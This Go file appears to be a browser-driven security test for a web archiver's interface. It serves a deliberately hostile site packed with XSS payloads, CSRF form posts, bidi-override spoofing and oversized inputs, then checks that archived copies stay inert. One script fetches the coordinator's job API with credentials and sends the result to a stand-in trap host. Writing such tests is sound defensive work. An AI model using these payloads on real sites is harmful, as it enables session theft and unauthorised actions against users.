package main

import (
	"context"
	"errors"
	"fmt"
	"net/http"
	"slices"
	"strconv"
	"strings"

	"github.com/chromedp/cdproto/target"
	"github.com/chromedp/chromedp"
)

// turns are the marks that turn the direction of text.
const turns = "\u202e\u2066\u200f\u061c"

// longName is as long as a text of a hostile page, in characters.
const longName = 10_000_000

// hostilePages are what a hostile site serves, by their paths. COORDINATOR and TRAP stand for addresses; every script in them that runs, and
// everything that a browser loads of them, asks the trap.
var hostilePages = map[string]string{
	"scripts": `<title>&lt;script&gt;fetch("TRAP/title")&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;</title>
		<script>document.title = 'ran'; fetch('TRAP/script'); alert('ran'); fetch('COORDINATOR/api/v1/jobs', {credentials: 'include'}).then(r => r.text()).then(v => fetch('TRAP/leak?' + v));
		navigator.serviceWorker.register('/worker.js'); try { top.location = 'TRAP/top'; } catch (e) {} try { opener.location = 'TRAP/opener'; } catch (e) {} localStorage.x = 1; parent.postMessage('x', '*');</script>
		<script src="TRAP/src.js"></script><script type=module>import 'TRAP/module.js'</script><noscript><img src=TRAP/noscript></noscript>
		<body onload="fetch('TRAP/onload')"><img src=x onerror="fetch('TRAP/onerror')"><svg onload="fetch('TRAP/svgload')"><script>fetch('TRAP/svgscript')</script></svg>
		<input autofocus onfocus="fetch('TRAP/focus')"><details open ontoggle="fetch('TRAP/toggle')">x</details><iframe srcdoc="<script>fetch('TRAP/srcdoc')</script>"></iframe><iframe src="data:text/html,<script>fetch('TRAP/data')</script>"></iframe><iframe src="javascript:fetch('TRAP/js')"></iframe>`,
	"loads": `<title>"><base href=TRAP/><link rel=stylesheet href=TRAP/t></title><base href="TRAP/base/" target=_top>
		<meta http-equiv=refresh content="0;url=TRAP/refresh"><meta http-equiv=Content-Security-Policy content="default-src *"><meta name=referrer content=unsafe-url>
		<link rel=stylesheet href="TRAP/css"><link rel="preconnect dns-prefetch" href="TRAP"><link rel=prefetch href="TRAP/prefetch"><link rel=preload as=image href="TRAP/preload"><link rel=prerender href="TRAP/prerender"><link rel=modulepreload href="TRAP/modulepreload"><link rel=icon href="TRAP/icon"><link rel=manifest href="TRAP/manifest">
		<style>@import "TRAP/import"; body{background:url(TRAP/background)} @font-face{font-family:q;src:url(TRAP/font)} p{font-family:q;background:u\72l(TRAP/escaped);list-style:image-set("TRAP/set" 1x)} a{cursor:url(TRAP/cursor),auto;filter:url(TRAP/filter#f)}</style>
		<p style="background:url('TRAP/inline')">text <img src="TRAP/img" srcset="TRAP/srcset 2x" lowsrc="TRAP/lowsrc"><img src="/relative"><img src="\\TRAPHOST\slashes"><picture><source srcset="TRAP/source"><img></picture>
		<iframe src="TRAP/frame"></iframe><iframe src="COORDINATOR/#/jobs"></iframe><object data="TRAP/object"></object><embed src="TRAP/embed"><video src="TRAP/video" poster="TRAP/poster" autoplay><track src="TRAP/track" default></video><audio src="TRAP/audio" autoplay></audio>
		<svg><image href="TRAP/svgimage"/><use href="TRAP/use#a"/><feImage href="TRAP/fe"/></svg><table background="TRAP/table"><tr><td>x</table><input type=image src="TRAP/input"><img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='TRAP/datasvg'/></svg>">
		<img src="COORDINATOR/api/v1/jobs/1/cancel"><body background="TRAP/body"><portal src="TRAP/portal"></portal><applet code="TRAP/applet"></applet>`,
	"top":      `<title>` + turns + `gpj.exe</title><a href="COORDINATOR/#/log" target=_top class=all>top</a>`,
	"blank":    `<title>blank</title><a href="TRAP/blank" target=_blank rel=opener class=all>another window</a>`,
	"ping":     `<title>ping</title><a href="/loads" ping="TRAP/ping COORDINATOR/api/v1/jobs/1/cancel" attributionsrc="TRAP/attribution" class=all>ping</a>`,
	"form":     `<title>form</title><form action="COORDINATOR/api/v1/jobs/1/cancel" method=post target=_top><button formaction="TRAP/formaction" class=all>send</button></form>`,
	"script":   `<title>a link that is a script</title><a href="javascript:fetch('TRAP/jslink')" onclick="fetch('TRAP/click')" class=all>run</a>`,
	"download": `<title>download</title><a href="TRAP/download" download class=all>have it</a>`,
	"long":     `<title>` + turns + `<b>LONG</title><p>LONG<a href="/long?LONG2000">LONG2000</a>`,
}

// hostileTypes are types of pages that are no HTML.
var hostileTypes = map[string]struct{ kind, body string }{
	"picture.svg": {"image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg" width="900" height="900" onload="fetch('TRAP/onload')"><script>fetch('TRAP/svgdoc')</script><a href="javascript:fetch('TRAP/svglink')"><rect width="900" height="900" fill="red"/></a><image href="TRAP/svgdocimage"/><foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="TRAP/foreign"/></foreignObject></svg>`},
	"page.xhtml":  {"application/xhtml+xml", `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="TRAP/xsl"?><html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title></head><body><script>fetch('TRAP/xhtml')</script><img src="TRAP/xhtmlimage"/></body></html>`},
	"tree.xml":    {"application/xml", `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="TRAP/xsl2"?><html xmlns="http://www.w3.org/1999/xhtml"><script>fetch('TRAP/xml')</script></html>`},
}

// worstPages are those that the short walk opens.
var worstPages = []string{"scripts", "loads", "top", "form", "long", "picture.svg"}

// serveHostile serves a site that attacks who looks at its archive.
func serveHostile(coordinator, lure string) (string, error) {
	write := strings.NewReplacer("COORDINATOR", "http://"+coordinator, "TRAPHOST", lure, "TRAP", "http://"+lure, "LONG2000", strings.Repeat("o", 2000), "LONG", strings.Repeat("o", longName))
	return serveOn(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		name := strings.TrimPrefix(r.URL.Path, "/")
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		w.Header().Set("Link", "<http://"+lure+"/link>; rel=preload; as=image")
		w.Header().Set("Refresh", "1;url=http://"+lure+"/refreshed")
		w.Header().Set("Set-Cookie", "argosy_"+portOf(coordinator)+"=evil; Path=/")
		w.Header().Set("Clear-Site-Data", `"*"`)
		switch of, other := hostileTypes[name]; {
		case other:
			w.Header().Set("Content-Type", of.kind)
			_, _ = write.WriteString(w, of.body)
		case hostilePages[name] != "":
			_, _ = write.WriteString(w, `<!DOCTYPE html><meta charset=utf-8><style>.all{position:fixed;inset:0;width:100%;height:100%;background:#fcc}</style>`+hostilePages[name])
		case name == "":
			for page := range hostilePages {
				fmt.Fprintf(w, `<a href="/%s">%s&lt;img src=x onerror=alert(1)&gt;</a> `, page, turns)
			}
			for page := range hostileTypes {
				fmt.Fprintf(w, `<a href="/%s">x</a> `, page)
			}
			_, _ = write.WriteString(w, `<a href="/%3Cscript%3Ealert(1)%3C/script%3E?`+turns+`">x</a><title><script>fetch('TRAP/root')</script></title>`)
		default:
			http.NotFound(w, r)
		}
	}))
}

// hostile crawls a hostile site, and looks at all that the pages show of it.
func (k *walker) hostile(ctx context.Context, g *gate, lure *trap) error {
	host, err := serveHostile(g.host, lure.host)
	if err != nil {
		return err
	}
	one, end, err := k.byGate(ctx, g)
	if err != nil {
		return err
	}
	defer end()
	name := `<img src=x onerror=alert(1)><script>fetch("http://` + lure.host + `/name")</script>`
	send := func(name string) (string, error) {
		job := fmt.Sprintf("{name: %s, seeds: ['http://%s/'], limits: {delay: 0}, fetch: {resources: true}}", quote(name), host)
		return js[string](one, `fetch('/api/v1/jobs', {method: 'POST', headers: {'Argosy-Page': localStorage.getItem('argosy.page'), 'Content-Type': 'application/yaml'}, body: `+quote(job)+`}).then(r => r.json()).then(v => String(v.job || v.detail))`)
	}
	for _, bad := range []string{strings.Repeat("o", longName), turns} {
		if said, err := send(bad); err != nil || !strings.HasPrefix(said, "name: ") || len(said) > 1000 {
			return errors.Join(err, fmt.Errorf("a job with the name %.100q: %.100s", bad, said))
		}
	}
	said, err := send(name)
	if err != nil {
		return err
	}
	id, err := strconv.Atoi(said)
	if err != nil {
		return fmt.Errorf("a job with a hostile name: %s", said)
	}
	if err := until(one, fmt.Sprintf(`fetch('/api/v1/jobs/%d', {headers: {'Argosy-Page': localStorage.getItem('argosy.page')}}).then(r => r.json()).then(v => v.state === 'done')`, id)); err != nil {
		return err
	}
	g.strange()
	for _, page := range []string{"overview", "jobs", "tasks", "nodes", "sites", "measurements", "pages", "tree", "log"} {
		if err := k.harmless(one, fmt.Sprintf("#/%s?job=%d", page, id)); err != nil {
			return err
		}
	}
	if err := k.hostileCopies(one, id, host); err != nil {
		return err
	}
	if seen := lure.caught(); len(seen) > 0 {
		return fmt.Errorf("something was asked of the trap: %s", strings.Join(seen, ", "))
	}
	copies := 0
	for _, a := range g.strange() {
		if a.path == "/favicon.ico" { // browsers want one of every window
			continue
		}
		if copies++; !strings.HasPrefix(a.path, "/archive/") || a.cookie && a.method != http.MethodGet {
			return fmt.Errorf("an archived page has sent %s %s, and got %d", a.method, a.path, a.status)
		}
	}
	if copies == 0 {
		return errors.New("no archived page was asked for")
	}
	return nil
}

// harmless looks at a page that shows what sites have sent.
func (k *walker) harmless(ctx context.Context, hash string) error {
	if err := visit(ctx, hash); err != nil {
		return err
	}
	return k.isHarmless(ctx, hash)
}

// isHarmless looks at the page that is open.
func (k *walker) isHarmless(ctx context.Context, hash string) error {
	if err := until(ctx, "document.querySelector('#content .page') && !document.querySelector('#content .wrong')"); err != nil {
		return fmt.Errorf("%s: %w", hash, err)
	}
	found, err := js[string](ctx, `(() => {
		for (const e of document.querySelectorAll('*')) {
			if ([...e.attributes].some(a => a.name.startsWith('on')) || /^(script|img|object|embed|base|style|meta|link)$/i.test(e.tagName) && e.closest('body')) return e.outerHTML.slice(0, 200);
		}
		if (/[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/.test(document.body.textContent)) return 'marks that turn the direction of text';
		if (document.documentElement.scrollWidth > innerWidth) return document.documentElement.scrollWidth + ' pixels wide';
		if (document.body.textContent.length > 1e6) return document.body.textContent.length + ' characters';
		return document.title.includes('ran') ? document.title : '';
	})()`)
	if err == nil && found != "" {
		err = fmt.Errorf("%s has %s", hash, found)
	}
	return err
}

// hostileCopies opens each page of a hostile site as it is archived, within the page of it and in a window of its own, and clicks into it.
func (k *walker) hostileCopies(ctx context.Context, job int, host string) error {
	all, err := js[[][2]string](ctx, fmt.Sprintf(`fetch('/api/v1/jobs/%d/pages?limit=100', {headers: {'Argosy-Page': localStorage.getItem('argosy.page')}}).then(r => r.json()).then(v => v.pages.filter(p => p.status === 200 && p.site === '%s').map(p => [p.url, p.key]))`, job, host))
	if err != nil {
		return err
	}
	if len(all) < len(hostilePages) {
		return fmt.Errorf("%d hostile pages were had", len(all))
	}
	for _, p := range all {
		if _, name, _ := strings.Cut(strings.TrimPrefix(p[0], "http://"), "/"); !k.full && !slices.Contains(worstPages, name) {
			continue
		}
		k.where = "the archived page " + p[0]
		hash := fmt.Sprintf("#/page?job=%d&key=%s", job, p[1])
		if err := k.harmless(ctx, hash); err != nil {
			return err
		}
		for _, tab := range []string{"Text", "Heads", "Archived page"} {
			if err := click(ctx, "[role=tab]", tab); err != nil {
				return err
			}
			if err := k.isHarmless(ctx, hash); err != nil {
				return err
			}
		}
		at, err := js[[]float64](ctx, "new Promise(done => { const f = document.querySelector('iframe'); f.scrollIntoView({block: 'center'}); setTimeout(() => { const r = f.getBoundingClientRect(); done([r.left + r.width / 2, r.top + r.height / 2]); }, 200); })")
		if err != nil {
			return err
		}
		src, err := js[string](ctx, "document.querySelector('iframe').src")
		if err != nil {
			return err
		}
		if err := chromedp.Run(ctx, chromedp.MouseClickXY(at[0], at[1])); err != nil {
			return err
		}
		if err := k.isHarmless(ctx, hash); err != nil {
			return err
		}
		if err := k.alone(ctx, src); err != nil {
			return err
		}
	}
	left, err := js[string](ctx, "navigator.serviceWorker.getRegistrations().then(all => all.length ? 'a worker serves our pages' : localStorage.x ? 'a page wrote into our storage' : '')")
	if err == nil && left != "" {
		err = errors.New(left)
	}
	return err
}

// alone opens the address of an archived page in a window of its own and clicks into it: no other window opens, and it goes nowhere but to other copies.
func (k *walker) alone(ctx context.Context, src string) error {
	before, err := chromedp.Targets(ctx)
	if err != nil {
		return err
	}
	w, end, err := another(ctx, src)
	if err != nil {
		return err
	}
	defer end()
	if err := until(w, "location.href !== 'about:blank' && document.readyState === 'complete'"); err != nil {
		return err
	}
	if err := chromedp.Run(w, chromedp.MouseClickXY(200, 200), chromedp.Sleep(k.settle)); err != nil {
		return err
	}
	after, err := chromedp.Targets(ctx)
	if err != nil {
		return err
	}
	windows := func(all []*target.Info) (n int) {
		for _, t := range all {
			if t.Type == "page" {
				n++
			}
		}
		return n
	}
	if windows(after) > windows(before)+1 {
		return errors.New("it opened a window")
	}
	var at, title string
	if err := chromedp.Run(w, chromedp.Location(&at), chromedp.Title(&title)); err != nil {
		return err
	}
	if !strings.Contains(at, "/archive/") || title == "ran" {
		return fmt.Errorf("it went to %s, %q", at, title)
	}
	return nil
}
